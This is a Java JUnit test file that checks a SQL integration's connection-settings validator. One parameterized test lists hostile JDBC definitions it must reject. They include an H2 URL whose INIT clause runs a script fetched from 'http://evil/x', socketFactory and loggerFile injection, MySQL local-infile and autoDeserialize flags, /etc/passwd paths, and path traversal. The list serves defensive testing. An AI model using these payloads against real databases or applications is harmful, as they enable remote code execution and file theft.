package io.hypha.camel.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.hypha.config.InvalidDocumentException;
import io.hypha.config.Problem;
import io.hypha.integration.IntegrationException;
import java.lang.reflect.Proxy;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Driver;
import java.sql.DriverManager;
import java.sql.DriverPropertyInfo;
import java.sql.SQLException;
import java.sql.SQLFeatureNotSupportedException;
import java.util.Optional;
import java.util.Properties;
import java.util.logging.Logger;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ConnectionSettingsTest {
    @TempDir
    static Path folder;

    private static SqlRuntime runtime;

    @BeforeAll
    static void start() throws Exception {
        runtime = new SqlRuntime(folder.resolve("databases"));
    }

    @AfterAll
    static void stop() {
        runtime.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{type: postgresql, connection: {database: d, options: {socketFactory: x}}}",
                "{type: postgresql, connection: {database: d, options: {sslfactory: x}}}",
                "{type: postgresql, connection: {database: d, options: {loggerFile: /tmp/x}}}",
                "{type: postgresql, connection: {database: d, options: {authenticationPluginClassName: x}}}",
                "{type: postgresql, connection: {database: d, options: {password: x}}}",
                "{type: postgresql, connection: {database: 'd?socketFactory=x'}}",
                "{type: postgresql, connection: {database: 'd&a=b'}}",
                "{type: postgresql, connection: {database: 'a/b'}}",
                "{type: postgresql, connection: {host: 'h/x?socketFactory=y', database: d}}",
                "{type: postgresql, connection: {host: 'user:pass@h', database: d}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?socketFactory=x'}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?user=x'}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql://u:p@h/d'}}",
                "{type: postgresql, connection: {url: 'jdbc:h2:mem:x'}}",
                "{type: postgresql, connection: {url: 'jdbc:postgresql:d'}}",
                "{type: postgresql, connection: {database: d, pool_size: 0}}",
                "{type: postgresql, connection: {database: d, max_wait: soon}}",
                "{type: mariadb, connection: {database: d, options: {allowLocalInfile: true}}}",
                "{type: mariadb, connection: {database: d, options: {serverRsaPublicKeyFile: /etc/passwd}}}",
                "{type: mysql, connection: {url: 'jdbc:mysql://h/d?allowLoadLocalInfile=true'}}",
                "{type: mysql, connection: {url: 'jdbc:mysql://h/d?autoDeserialize=true'}}",
                "{type: h2, connection: {url: 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM ''http://evil/x'''}}",
                "{type: h2, connection: {url: 'jdbc:h2:tcp://evil/x'}}",
                "{type: h2, connection: {url: 'jdbc:h2:file:/etc/x'}}",
                "{type: h2, connection: {url: 'jdbc:h2:~/x'}}",
                "{type: h2, connection: {url: 'jdbc:h2:zip:x.zip!/x'}}",
                "{type: h2, connection: {database: ../hypha}}",
                "{type: h2, connection: {database: a/../../hypha}}",
                "{type: h2, connection: {database: /etc/x}}",
                "{type: h2, connection: {database: x, options: {TRACE_LEVEL_FILE: 3}}}",
                "{type: h2, connection: {database: x, options: {MODE: \"Oracle;INIT=x\"}}}",
                "{type: duckdb, connection: {options: {enable_external_access: true}}}",
                "{type: duckdb, connection: {database: /etc/passwd}}",
                "{type: duckdb, connection: {url: 'jdbc:duckdb:x;session_init_sql_file=/etc/passwd'}}",
                "{type: jdbc, connection: {}}",
                "{type: jdbc, connection: {url: 'jdbc:h2:/etc/x'}}",
                "{type: jdbc, connection: {url: 'jdbc:h2:mem:x;INIT=x'}}",
                "{type: jdbc, connection: {url: 'jdbc:postgresql://h/d?loggerFile=x'}}",
                "{type: jdbc, connection: {url: 'jdbc:sqlite:/etc/passwd'}}",
                "{type: jdbc, connection: {url: 'jdbc:oracle:thin:scott/tiger@//h:1521/x'}}",
                "{type: jdbc, connection: {url: 'jdbc:calcite:model=inline:x'}}",
                "{type: jdbc, connection: {url: 'http://h/d'}}",
                "{type: h2, connection: {}, operations: {x: {statement: \"select 'x\"}}}",
                "{type: h2, connection: {}, operations: {x: {statement: \"call f(:x)\", out: {x: nothing}}}}",
            })
    void shouldRefuse(String definition) {
        assertThatThrownBy(() -> runtime.register("hostile", definition)).isInstanceOf(InvalidDocumentException.class);
        assertThat(runtime.integrations.check(definition))
                .as("validating says so too")
                .isNotEmpty();
        assertThat(runtime.integrations.has("hostile")).isFalse();
        assertThat(folder.resolve("databases")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{type: postgresql, connection: {url: 'jdbc:postgresql://h1:1,h2:2/d?sslmode=verify-full'}}",
                "{type: postgresql, connection: {host: '[::1]', database: d, options: {sslmode: require}}}",
                "{type: mysql, connection: {url: 'jdbc:mysql://h/d?sslMode=verify-full'}}",
                "{type: mariadb, connection: {database: d, max_wait: 500ms}}",
                "{type: database, connection: {url: 'jdbc:duckdb:'}}",
                "{type: jdbc, connection: {url: 'jdbc:postgresql://h:5432/d?sslmode=require'}}",
            })
    void shouldDeployWithoutContactingTheDatabase(String definition) {
        runtime.register("fine", definition);
        runtime.unregister("fine");
    }

    @Test
    void shouldSayWhichDriverIsMissing() {
        assertThatThrownBy(() ->
                        runtime.register("ora", "{type: jdbc, connection: {url: 'jdbc:oracle:thin:@//h:1521/x'}}"))
                .isInstanceOf(IntegrationException.class)
                .hasMessageContaining("jdbc:oracle:thin:@//h:1521/x")
                .hasMessageContaining("lib folder");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:trino://h:8080/hive/default",
                "jdbc:hsqldb:hsql://h/shop",
                "jdbc:snowflake://account.example.com",
                "jdbc:jtds:sqlserver://h:1433/shop"
            })
    void shouldTakeServersOfAnyDriver(String url) {
        assertThatThrownBy(() -> runtime.register("other", "{type: jdbc, connection: {url: '" + url + "'}}"))
                .isInstanceOf(IntegrationException.class)
                .hasMessageContaining("lib folder");
    }

    @Test
    void shouldUseOtherUrlsWhereTheOperatorAllowsThem() throws Exception {
        FileDriver driver = new FileDriver();
        DriverManager.registerDriver(driver);
        try (SqlRuntime allowing = new SqlRuntime(folder, Optional.of(Pattern.compile("jdbc:files:/srv/[a-z]+")))) {
            allowing.register("shop", "{type: jdbc, connection: {url: 'jdbc:files:/srv/shop'}}");

            assertThat(allowing.value("shop", "41 + 1", "{}").asInt()).isEqualTo(42);
            assertThatThrownBy(() ->
                            allowing.register("passwd", "{type: jdbc, connection: {url: 'jdbc:files:/srv/../etc'}}"))
                    .isInstanceOf(InvalidDocumentException.class)
                    .hasMessageContaining("hypha.jdbc.urls");
        } finally {
            DriverManager.deregisterDriver(driver);
        }
    }

    /** Of databases that are files, as SQLite's. */
    private static final class FileDriver implements Driver {
        @Override
        public Connection connect(String url, Properties info) throws SQLException {
            return acceptsURL(url) ? takingNoHint(DriverManager.getConnection("jdbc:h2:mem:")) : null;
        }

        private static Connection takingNoHint(Connection connection) {
            return (Connection) Proxy.newProxyInstance(
                    FileDriver.class.getClassLoader(),
                    new Class<?>[] {Connection.class},
                    (proxy, method, arguments) -> {
                        if (method.getName().equals("setReadOnly")) {
                            throw new SQLException("Cannot change read-only flag after establishing a connection");
                        }
                        return method.invoke(connection, arguments);
                    });
        }

        @Override
        public boolean acceptsURL(String url) {
            return url.startsWith("jdbc:files:");
        }

        @Override
        public DriverPropertyInfo[] getPropertyInfo(String url, Properties info) {
            return new DriverPropertyInfo[0];
        }

        @Override
        public int getMajorVersion() {
            return 1;
        }

        @Override
        public int getMinorVersion() {
            return 0;
        }

        @Override
        public boolean jdbcCompliant() {
            return false;
        }

        @Override
        public Logger getParentLogger() throws SQLFeatureNotSupportedException {
            throw new SQLFeatureNotSupportedException();
        }
    }

    @Test
    void shouldSuggestOptions() {
        assertThatThrownBy(() -> runtime.register(
                        "pg", "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?sslmod=require'}}"))
                .hasMessageContaining("did you mean 'sslmode'?");
        assertThat(runtime.integrations.check(
                        "{type: postgresql, connection: {url: 'jdbc:postgresql://h/d?sslmod=require'}}"))
                .extracting(Problem::suggestion)
                .containsExactly("sslmode");
    }
}
